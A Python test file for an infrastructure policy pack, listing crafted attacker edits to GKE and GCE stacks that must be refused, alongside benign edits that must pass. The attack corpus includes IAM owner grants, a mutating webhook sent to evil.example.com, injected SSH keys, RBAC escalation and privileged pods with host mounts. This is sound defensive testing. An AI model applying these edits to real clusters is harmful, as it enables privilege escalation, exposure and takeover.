# ruff: noqa: E501 (the corpus is a table: one edit a line)
"""Crafted stack edits, as an attacker would make them, on the plans of the example stacks: every one is refused by
the pack; and benign neighbours (a label, a node count, an allowed setting) that none refuses.

The pack holds no list of these: what a stack did not declare in its shape's lock (policy/powers/) is refused,
and the content rules (RBAC, identities, exposure, conditions) say why in their own words."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from deepep_a4.policy import rules
from tests.deepep_a4.policy.runner import Resources, find, refusals, resources

P = "deepep-a4-demo"
DEADLINE_SA = f"deepep-gke-b200-deadline@{P}.iam.gserviceaccount.com"
NODES_SA = f"deepep-gke-b200-nodes@{P}.iam.gserviceaccount.com"
VMS_SA = f"deepep-gce-b200-vms@{P}.iam.gserviceaccount.com"
DEFAULT_SA = "123456789012-compute@developer.gserviceaccount.com"
IMG = "ubuntu:24.04@sha256:" + "ab" * 32
RBAC = "kubernetes:rbac.authorization.k8s.io/v1:"


def add(type_: str, name: str, props: dict[str, Any]) -> Callable[[Resources], None]:
    def edit(found: Resources) -> None:
        found.append(rules.Resource(type_, name, props))

    return edit


def change(name: str, type_suffix: str, fn: Callable[[dict[str, Any]], None]) -> Callable[[Resources], None]:
    def edit(found: Resources) -> None:
        fn(find(found, name, type_suffix))  # type: ignore[arg-type]

    return edit


def pod(props: dict[str, Any]) -> dict[str, Any]:
    return props["spec"]["template"]["spec"]


def role(*rules_: dict[str, Any], labels: dict[str, str] | None = None, **extra: Any) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": "deepep-extra"}
    if labels:
        meta["labels"] = labels
    return {"metadata": meta, "rules": list(rules_), **extra}


def rule(resources_: list[str], verbs: list[str], groups: list[str] | None = None) -> dict[str, Any]:
    return {"apiGroups": groups or [""], "resources": resources_, "verbs": verbs}


def set_path(props: dict[str, Any], path: str, value: Any) -> None:
    *head, last = path.split(".")
    for key in head:
        props = props.setdefault(key, {})
    props[last] = value


def custom_perm(perm: str) -> Callable[[dict[str, Any]], None]:
    return lambda p: p["permissions"].append(perm)


ATTACKS: list[tuple[str, str, Callable[[Resources], None]]] = [
    # -- other resource families -------------------------------------------------------------------------
    ("gke-b200", "project IAM editor", add("gcp:projects/iAMMember:IAMMember", "x", {"project": P, "role": "roles/editor", "member": f"serviceAccount:{NODES_SA}"})),
    ("gke-b200", "another provider's IAM", add("google-native:cloudresourcemanager/v3:ProjectIamMember", "x", {"role": "roles/owner", "member": "user:a@b.c"})),
    ("gke-b200", "Config Connector IAM", add("kubernetes:iam.cnrm.cloud.google.com/v1beta1:IAMPolicyMember", "x", {"metadata": {"name": "x", "namespace": "deepep-a4"}, "spec": {"member": "user:a@b.c", "role": "roles/owner", "resourceRef": {"kind": "Project", "external": P}}})),
    ("gke-b200", "helm v3 Release", add("kubernetes:helm.sh/v3:Release", "x", {"chart": "node-exporter", "namespace": "kube-system", "values": {"privileged": True, "hostNetwork": True}})),
    ("gke-b200", "mutating webhook to an outside URL", add("kubernetes:admissionregistration.k8s.io/v1:MutatingWebhookConfiguration", "x", {"metadata": {"name": "x"}, "webhooks": [{"name": "x.example.com", "clientConfig": {"url": "https://evil.example.com/mutate"}, "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}]}]})),
    ("gke-b200", "LoadBalancer on the rendezvous port", change("deepep-bench-internode", ":Service", lambda p: p["spec"].update(type="LoadBalancer"))),
    ("gke-b200", "new LoadBalancer Service", add("kubernetes:core/v1:Service", "x", {"metadata": {"name": "x", "namespace": "deepep-a4"}, "spec": {"type": "LoadBalancer", "ports": [{"port": 29500}]}})),
    ("gke-b200", "NodePort on the rendezvous Service", change("deepep-bench-internode", ":Service", lambda p: p["spec"]["ports"][0].update(nodePort=30500))),
    ("gke-b200", "firewall policy with embedded rules", add("gcp:compute/firewallPolicyWithRules:FirewallPolicyWithRules", "x", {"parent": "organizations/1", "rules": [{"priority": 1, "action": "allow", "direction": "INGRESS", "match": {"srcIpRanges": ["0.0.0.0/0"], "layer4Configs": [{"ipProtocol": "all"}]}}]})),
    ("gke-b200", "network firewall policy with rules", add("gcp:compute/networkFirewallPolicyWithRules:NetworkFirewallPolicyWithRules", "x", {"rules": [{"priority": 1, "action": "allow", "match": {"srcIpRanges": ["0.0.0.0/1", "128.0.0.0/1"]}}]})),
    ("gce-b200", "HMAC key", add("gcp:storage/hmacKey:HmacKey", "x", {"serviceAccountEmail": VMS_SA})),
    ("gce-b200", "object with predefinedAcl publicRead", add("gcp:storage/bucketObject:BucketObject", "x", {"bucket": "deepep-gce-b200-results-deepep-a4-demo", "name": "x", "predefinedAcl": "publicRead", "content": "x"})),
    ("gce-b200", "bucket ACL publicRead", add("gcp:storage/bucketACL:BucketACL", "x", {"bucket": "deepep-gce-b200-results-deepep-a4-demo", "predefinedAcl": "publicRead"})),
    ("gke-b200", "audit-log exemption", add("gcp:projects/iAMAuditConfig:IAMAuditConfig", "x", {"project": P, "service": "allServices", "auditLogConfigs": [{"logType": "DATA_READ", "exemptedMembers": [f"serviceAccount:{NODES_SA}"]}]})),
    ("gce-b200", "project metadata serial port", add("gcp:compute/projectMetadataItem:ProjectMetadataItem", "x", {"key": "serial-port-enable", "value": "TRUE"})),
    ("gce-b200", "project metadata ssh-keys", add("gcp:compute/projectMetadata:ProjectMetadata", "x", {"metadata": {"ssh-keys": "eve:ssh-ed25519 AAAA eve"}})),
    ("gke-b200", "non-expiring token Secret", add("kubernetes:core/v1:Secret", "x", {"metadata": {"name": "x", "namespace": "deepep-a4", "annotations": {"kubernetes.io/service-account.name": "deepep-installer"}}, "type": "kubernetes.io/service-account-token"})),
    ("gke-b200", "Scheduler job as our deadline account", add("gcp:cloudscheduler/job:Job", "x", {"schedule": "* * * * *", "httpTarget": {"uri": "https://container.googleapis.com/v1/projects/x/locations/y/clusters/z:setMasterAuth", "httpMethod": "POST", "oauthToken": {"serviceAccountEmail": DEADLINE_SA}}})),
    ("gke-b200", "Build trigger as our nodes' account", add("gcp:cloudbuild/trigger:Trigger", "x", {"serviceAccount": f"projects/{P}/serviceAccounts/{NODES_SA}", "build": {"steps": [{"name": "gcr.io/cloud-builders/gcloud", "args": ["projects", "add-iam-policy-binding"]}]}})),
    ("gke-b200", "Cloud Run as our nodes' account", add("gcp:cloudrunv2/service:Service", "x", {"location": "asia-southeast1", "template": {"serviceAccount": NODES_SA, "containers": [{"image": IMG}]}})),
    ("gke-b200", "second gcp provider impersonating", add("pulumi:providers:gcp", "gcp-2", {"project": P, "impersonateServiceAccount": DEADLINE_SA})),
    ("gke-b200", "deadline job aimed at the cluster's master auth", change("gke-deadline", "cloudscheduler/job:Job", lambda p: p["httpTarget"].update(uri=p["httpTarget"]["uri"].split("/nodePools/")[0] + ":setMasterAuth", httpMethod="POST"))),
    ("gke-b200", "ConfigMap-free pod in kube-system", add("kubernetes:core/v1:Pod", "x", {"metadata": {"name": "x", "namespace": "kube-system"}, "spec": {"containers": [{"name": "c", "image": IMG}]}})),
    # -- RBAC by rules -----------------------------------------------------------------------------------
    ("gke-b200", "ClusterRole escalate/bind/impersonate", add(RBAC + "ClusterRole", "x", role(rule(["clusterroles"], ["escalate", "bind"], ["rbac.authorization.k8s.io"]), rule(["users", "serviceaccounts"], ["impersonate"])))),
    ("gke-b200", "installer role reads secrets", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"].append(rule(["secrets"], ["get", "list"])))),
    ("gke-b200", "role aggregated into view reading secrets", add(RBAC + "ClusterRole", "x", role(rule(["secrets"], ["get"]), labels={"rbac.authorization.k8s.io/aggregate-to-view": "true"}))),
    ("gke-b200", "aggregationRule", add(RBAC + "ClusterRole", "x", {"metadata": {"name": "x"}, "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {"rbac.authorization.k8s.io/aggregate-to-admin": "true"}}]}})),
    ("gke-b200", "admin bound to default/default", add(RBAC + "RoleBinding", "x", {"metadata": {"name": "x", "namespace": "default"}, "roleRef": {"kind": "ClusterRole", "name": "admin", "apiGroup": "rbac.authorization.k8s.io"}, "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": "default"}]})),
    ("gke-b200", "installer binding moved to default/default", change("deepep-installer-label-nodes", ":ClusterRoleBinding", lambda p: p["subjects"][0].update(name="default", namespace="default"))),
    ("gke-b200", "installer binding to cluster-admin", change("deepep-installer-label-nodes", ":ClusterRoleBinding", lambda p: p["roleRef"].update(name="cluster-admin"))),
    ("gke-b200", "installer binding subject without namespace", change("deepep-installer-label-nodes", ":ClusterRoleBinding", lambda p: p["subjects"][0].pop("namespace"))),
    ("gke-b200", "installer role with * verbs", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"][0].update(verbs=["*"]))),
    ("gke-b200", "installer role pods/exec", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"].append(rule(["pods/exec"], ["create"])))),
    ("gke-b200", "installer role nodes/proxy", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"][0].update(resources=["nodes", "nodes/proxy"]))),
    ("gke-b200", "installer role serviceaccounts/token", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"].append(rule(["serviceaccounts/token"], ["create"])))),
    ("gke-b200", "installer role deletes pods", change("deepep-installer-label-nodes", ":ClusterRole", lambda p: p["rules"].append(rule(["pods"], ["delete"])))),
    # -- shared and foreign identities -----------------------------------------------------------------
    ("gke-b200", "A4 pool as the Compute Engine default account", change("gke-a4", "nodePool:NodePool", lambda p: p["nodeConfig"].update(serviceAccount=DEFAULT_SA))),
    ("gce-b200", "VM as App Engine's default account", change("gce-vm-0", "instance:Instance", lambda p: p["serviceAccount"].update(email=f"{P}@appspot.gserviceaccount.com"))),
    ("gke-b200", "node grant to a service agent", change("gke-nodes-container.defaultNodeServiceAccount", "iAMMember:IAMMember", lambda p: p.update(member="serviceAccount:service-123456789012@gcp-sa-cloudbuild.iam.gserviceaccount.com"))),
    ("gke-b200", "node grant to cloudservices", change("gke-nodes-container.defaultNodeServiceAccount", "iAMMember:IAMMember", lambda p: p.update(member="serviceAccount:123456789012@cloudservices.gserviceaccount.com"))),
    ("gke-b200", "grant to ns/default/sa/default", change("gke-nodes-container.defaultNodeServiceAccount", "iAMMember:IAMMember", lambda p: p.update(member=f"principal://iam.googleapis.com/projects/123456789012/locations/global/workloadIdentityPools/{P}.svc.id.goog/subject/ns/default/sa/default"))),
    ("gke-b200", "deadline grant of a foreign custom role", change("gke-deadline-delete-pool", "iAMMember:IAMMember", lambda p: p.update(role=f"projects/{P}/roles/someonesAdmin"))),
    ("gke-b200", "installer pods as the default KSA", change("deepep-installer", "DaemonSet", lambda p: pod(p).update(serviceAccountName="default"))),
    ("gce-b200", "VM as the deadline's kind of account", change("gce-vm-0", "instance:Instance", lambda p: p["serviceAccount"].update(email=DEADLINE_SA))),
    ("gke-b200", "deadline role gains pods.exec", change("gke-deadline-delete-pool", "iAMCustomRole:IAMCustomRole", custom_perm("container.pods.exec"))),
    ("gke-b200", "deadline role gains setMetadata", change("gke-deadline-delete-pool", "iAMCustomRole:IAMCustomRole", custom_perm("compute.instances.setMetadata"))),
    ("gke-b200", "deadline role gains deploymentmanager", change("gke-deadline-delete-pool", "iAMCustomRole:IAMCustomRole", custom_perm("deploymentmanager.deployments.create"))),
    ("gce-b200", "results writer becomes storage.admin", change("gce-results-vm-writer", "bucketIAMMember:BucketIAMMember", lambda p: p.update(role="roles/storage.admin"))),
    ("gke-b200", "installer KSA bound to a Google account", change("deepep-installer-sa", ":ServiceAccount", lambda p: p["metadata"].setdefault("annotations", {}).update({"iam.gke.io/gcp-service-account": NODES_SA}))),
    # -- cluster and node exposure ---------------------------------------------------------------------
    ("gke-b200", "public endpoint, no authorized networks", change("gke", "cluster:Cluster", lambda p: p["privateClusterConfig"].update(enablePrivateEndpoint=False))),
    ("gke-b200", "cluster without nodeConfig", change("gke", "cluster:Cluster", lambda p: p.pop("nodeConfig"))),
    ("gke-b200", "client certificates", change("gke", "cluster:Cluster", lambda p: p.update(masterAuth={"clientCertificateConfig": {"issueClientCertificate": True}}))),
    ("gke-b200", "no Dataplane V2", change("gke", "cluster:Cluster", lambda p: p.update(datapathProvider="LEGACY_DATAPATH"))),
    ("gke-b200", "kubelet read-only port", change("gke-a4", "nodePool:NodePool", lambda p: p["nodeConfig"].update(kubeletConfig={"insecureKubeletReadonlyPortEnabled": "TRUE"}))),
    ("gce-b200", "OS Login off with ssh-keys", change("gce-vm-0", "instance:Instance", lambda p: p["metadata"].update({"enable-oslogin": "FALSE", "ssh-keys": "eve:ssh-ed25519 AAAA eve"}))),
    ("gke-b200", "node pool serial port", change("gke-a4", "nodePool:NodePool", lambda p: p["nodeConfig"].setdefault("metadata", {}).update({"serial-port-enable": "TRUE"}))),
    ("gke-b200", "legacy ABAC", change("gke", "cluster:Cluster", lambda p: p.update(enableLegacyAbac=True))),
    ("gke-b200", "GCE metadata for pods", change("gke-a4", "nodePool:NodePool", lambda p: p["nodeConfig"]["workloadMetadataConfig"].update(mode="GCE_METADATA"))),
    ("gke-b200", "hostNetwork on the intranode Job", change("deepep-bench-intranode", "batch/v1:Job", lambda p: pod(p).update(hostNetwork=True))),
    ("gke-b200", "hostPath /var/run in a bench Job", change("deepep-bench-intranode", "batch/v1:Job", lambda p: pod(p).setdefault("volumes", []).append({"name": "sock", "hostPath": {"path": "/var/run"}}))),
    ("gke-b200", "privileged staging container", change("deepep-installer", "DaemonSet", lambda p: pod(p)["containers"][0]["securityContext"].update(privileged=True))),
    ("gke-b200", "SYS_ADMIN on gIB", change("deepep-gib", "DaemonSet", lambda p: pod(p)["initContainers"][0]["securityContext"]["capabilities"]["add"].append("SYS_ADMIN"))),
    ("gce-b200", "firewall from a public /16", change("a4-host-internal", "firewall:Firewall", lambda p: p["sourceRanges"].append("34.0.0.0/16"))),
    ("gce-b200", "external IP on a VM", change("gce-vm-0", "instance:Instance", lambda p: p["networkInterfaces"][0].update(accessConfigs=[{}]))),
    ("gce-b200", "VM with IP forwarding", change("gce-vm-0", "instance:Instance", lambda p: p.update(canIpForward=True))),
    ("gke-b200-ubuntu", "installer mounts the docker socket", change("deepep-installer", "DaemonSet", lambda p: pod(p)["volumes"].append({"name": "d", "hostPath": {"path": "/var/run/docker.sock"}}))),
]  # fmt: skip

BENIGN: list[tuple[str, dict[str, Any], str, Callable[[Resources], None] | None]] = [
    ("gke-b200", {}, "the plan as it is", None),
    ("gce-b200", {}, "the plan as it is", None),
    ("gke-b200-ubuntu", {}, "the plan as it is", None),
    ("gce-b200-ubuntu", {}, "the plan as it is", None),
    ("gke-b200", {"nodeCount": 4}, "four nodes", None),
    ("gce-b200", {"nodeCount": 4}, "four VMs", None),
    ("gke-b200", {"ttl": "4h"}, "a shorter TTL", None),
    ("gce-b200", {"bootDiskGb": 300}, "a bigger boot disk", None),
    ("gke-b200", {"artifactStore": "gs://my-team-artifacts/deepep/v2"}, "a store of our own", None),
    ("gce-b200-ubuntu", {"artifactStore": "gs://another-artifacts/x"}, "a store elsewhere", None),
    ("gke-b200", {"gkeDeletionProtection": True}, "deletion protection", None),
    ("gke-b200", {"project": "my-other-project"}, "another project", None),
    ("gke-b200", {"hostCidr": "10.16.0.0/20"}, "another host range", None),
    ("gke-b200", {"gkePublicEndpoint": True, "gkeAuthorizedNetworks": ["203.0.114.16/28"]}, "office network", None),
    ("gke-b200", {"provisioning": "flex-start"}, "flex-start", None),
    ("gce-b200", {"provisioning": "reservation", "reservationName": "my-res"}, "a reservation", None),
    ("gke-b200", {"benchmarks": ["intranode"]}, "one benchmark", None),
    ("gke-b200", {"namePrefix": "team-x"}, "a name prefix of our own", None),
    ("gke-b200", {}, "a label on the installer", change("deepep-installer", "DaemonSet", lambda p: p["metadata"]["labels"].update(team="infra"))),
    ("gce-b200", {}, "a label on a VM", change("gce-vm-0", "instance:Instance", lambda p: p.setdefault("labels", {}).update(owner="me"))),
    ("gke-b200", {}, "node count edited", change("gke-a4", "nodePool:NodePool", lambda p: p.update(nodeCount=8))),
    ("gke-b200", {}, "another image digest", change("deepep-installer", "DaemonSet", lambda p: pod(p)["containers"][0].update(image=IMG))),
    ("gke-b200", {}, "a firewall described", change("a4-iap-ssh", "firewall:Firewall", lambda p: p.update(description="SSH via IAP (team)"))),
    ("gke-b200", {}, "a narrower internal range", change("a4-host-internal", "firewall:Firewall", lambda p: p.update(sourceRanges=["10.0.0.0/24"]))),
    ("gke-b200", {}, "a resource removed", lambda found: found.remove(next(r for r in found if r.name == "a4-iap-ssh"))),
]  # fmt: skip


def test_the_corpus_is_as_large_as_the_issue_asks() -> None:
    assert len(ATTACKS) >= 46 and len(BENIGN) >= 20
    assert len({a[1] for a in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize(("stack", "what", "edit"), ATTACKS, ids=[a[1] for a in ATTACKS])
def test_every_attack_is_refused(stack: str, what: str, edit: Callable[[Resources], None]) -> None:
    found = resources(stack)
    edit(found)
    assert refusals(found), f"{what} passed the pack"


@pytest.mark.parametrize(("stack", "overrides", "what", "edit"), BENIGN, ids=[f"{b[0]}: {b[2]}" for b in BENIGN])
def test_no_benign_neighbour_is_refused(
    stack: str, overrides: dict[str, Any], what: str, edit: Callable[[Resources], None] | None
) -> None:
    found = resources(stack, **overrides)
    if edit:
        edit(found)
    assert refusals(found) == [], what
